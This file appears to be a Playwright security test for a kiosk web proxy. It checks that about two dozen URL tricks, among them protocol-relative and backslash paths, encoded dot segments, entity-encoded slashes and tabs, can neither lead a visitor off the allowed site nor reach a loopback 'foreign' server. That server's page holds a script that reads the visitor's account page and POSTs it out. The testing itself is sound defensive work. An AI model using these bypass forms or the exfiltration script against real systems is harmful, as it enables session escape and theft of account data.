// Issue 13, item 1, in Chromium through the real web shell: a guided session on a fake allowed site whose page holds
// links and forms towards a fake foreign server (a stand-in for a loopback service) in every form that once made the
// proxy fetch another host or sends a browser straight to it: `//host`, `/\host`, `\\host`, `/.//host`, dot and
// percent-encoded dot segments, absolute URLs, entity-encoded slashes, tabs. The visitor follows each one in the frame:
// the frame must show « Cette page n’est pas disponible ici » or stay on the allowed site, and the foreign server —
// whose page would read the visitor's account page and send it out — must receive nothing at all.
import { expect, test, type Frame } from '@playwright/test';
import http from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startRecorder, type RecordingServer } from '../security/support/loopback.js';
import { startKiosk, type RunningKiosk } from './support/kiosk.js';

const GUIDE_TITLE = 'Compte de test (sécurité)';
const REFUSED = 'Cette page n’est pas disponible ici.';

let foreign: RecordingServer;
let site: http.Server;
let siteOrigin: string;
let guidesDir: string;
let kiosk: RunningKiosk;

/** Every link form of the attack, towards the foreign server's host `h` (127.0.0.1:<port>). */
function attackLinks(h: string): string[] {
  return [
    `//${h}/x`,
    `///${h}/x`,
    `/\\${h}/x`,
    `\\\\${h}\\x`,
    `\\/${h}/x`,
    `/\\/${h}/x`,
    `/.//${h}/x`,
    `/././/${h}/x`,
    `/a/..//${h}/x`,
    `/%2e//${h}/x`,
    `/a/%2e%2e//${h}/x`,
    `http://${h}/x`,
    `HTTP://${h}/x`,
    `http:\\\\${h}\\x`,
    `http:/\\${h}/x`,
    `https://${h}/x`,
    ` //${h}/x`,
    `/&#47;${h}/x`,
    `&#x2f;&#x2F;${h}/x`,
    `/&bsol;${h}/x`,
    `/\t/${h}/x`,
    `//${h.replace('127.0.0.1', 'localhost')}/x`,
    `http:${h}/x`,
    `/%2F%2F${h}/x`,
  ];
}

test.beforeAll(async () => {
  foreign = await startRecorder((_req, res) => {
    // If this page were ever shown in the frame, it would read the visitor's account page and send it out.
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><title>Étranger</title><h1>Site étranger</h1>
<script>fetch('/espace').then((r) => r.text()).then((t) => fetch('${'http://127.0.0.1'}:' + location.port + '/vol', { method: 'POST', body: t }));</script>`);
  });
  const h = `127.0.0.1:${foreign.port}`;
  const links = attackLinks(h);
  site = http.createServer((req, res) => {
    req.resume();
    const page = (title: string, body: string): void => {
      res.writeHead(req.url === '/' || req.url === '/espace' ? 200 : 404, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
      res.end(`<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`);
    };
    if (req.url === '/') {
      const anchors = links.map((l, i) => `<li><a id="l${i}" href="${l.replace(/"/g, '&quot;')}">lien ${i}</a></li>`).join('\n');
      const forms = `<form id="form-get" action="/\\${h}/x"><button id="f0" type="submit">Envoyer</button></form>
<form id="form-post" method="post" action="/.//${h}/x"><button id="f1" type="submit">Envoyer</button>
<button id="f2" type="submit" formaction="\\\\${h}/y">Autre</button></form>`;
      return page('Accueil du service', `<ul>${anchors}</ul>${forms}`);
    }
    if (req.url === '/espace') return page('Mon espace', '<p id="secret">Compte de Mme Test : 1 234,56 €</p>');
    return page('Introuvable', '<p>Cette page du service n’existe pas.</p>');
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  siteOrigin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  guidesDir = mkdtempSync(join(tmpdir(), 'relais-e2e-sec-guides-'));
  writeFileSync(
    join(guidesDir, 'compte-securite.yaml'),
    `id: compte-securite\norganisation: CAF\ntitle: ${GUIDE_TITLE}\nsummary: Un faux compte pour les tests d’attaque.\nstartUrl: ${siteOrigin}/\nallowedOrigins:\n  - ${siteOrigin}\nvisitorMayStart: true\nsteps:\n  - title: Accueil\n    text: La page d’accueil du service.\n    urlPattern: /\n`,
  );
});

test.afterAll(async () => {
  await foreign.close();
  await new Promise<void>((resolve) => {
    site.close(() => resolve());
    site.closeAllConnections();
  });
  rmSync(guidesDir, { recursive: true, force: true });
});

test.beforeEach(async () => {
  kiosk = await startKiosk({ env: { RELAIS_EXTRA_GUIDES_DIR: guidesDir } });
});
test.afterEach(async () => {
  await kiosk.stop();
});

test('links and forms of every form towards another host never reach it: the frame says « Cette page n’est pas disponible ici » or stays on the site', async ({ page }) => {
  test.setTimeout(300_000);
  await page.goto(await kiosk.launchUrl());
  await page.locator('.tile[data-org="CAF"]').click();
  // The CAF has two procedures a visitor may start alone (its own and this one): one card opens their list.
  await page.getByRole('button', { name: 'Faire une démarche sur Internet' }).click();
  await page.getByRole('button', { name: GUIDE_TITLE }).click();
  const site = page.frameLocator('iframe.site-frame');
  await expect(site.getByRole('heading', { name: 'Accueil du service' })).toBeVisible();
  const frame: Frame | null | undefined = await (await page.locator('iframe.site-frame').elementHandle())?.contentFrame();
  if (!frame) throw new Error('no website frame');
  const proxyOrigin = new URL(frame.url()).origin;
  expect(proxyOrigin).not.toBe(siteOrigin);

  const targets = [...attackLinks(`127.0.0.1:${foreign.port}`).map((_, i) => `#l${i}`), '#f0', '#f1', '#f2'];
  let refused = 0;
  let stayed = 0;
  const escaped: string[] = [];
  for (const selector of targets) {
    await frame.goto(`${proxyOrigin}/`);
    await expect(site.getByRole('heading', { name: 'Accueil du service' })).toBeVisible();
    await site.locator(selector).click();
    // Wait for the frame to show its next page (a refused page, a page of the allowed site, or another server's).
    await expect(site.getByRole('heading', { level: 1 })).not.toHaveText('Accueil du service');
    const heading = await site.getByRole('heading', { level: 1 }).textContent();
    if (new URL(frame.url()).origin !== proxyOrigin || heading === 'Site étranger') escaped.push(`${selector} → ${frame.url()} (« ${heading} »)`);
    else if (heading === REFUSED) refused += 1;
    else if (heading === 'Introuvable') stayed += 1;
    else escaped.push(`${selector} → ${frame.url()} (« ${heading} »)`);
  }
  // The visitor's account page is there, and nothing of it went out.
  await frame.goto(`${proxyOrigin}/espace`);
  await expect(site.locator('#secret')).toContainText('Compte de Mme Test');
  console.log(
    `[security-proxy e2e] ${targets.length} links and forms followed in Chromium: ${refused} showed « ${REFUSED} », ${stayed} stayed on the allowed site, ` +
      `${escaped.length} left the session; foreign server: ${foreign.requests.length} request(s), ${foreign.connections} connection(s)`,
  );
  if (escaped.length > 0) console.log(`[security-proxy e2e] left the session:\n  ${escaped.join('\n  ')}`);
  expect(escaped).toEqual([]);
  expect(foreign.requests).toEqual([]);
  expect(foreign.connections).toBe(0);
});
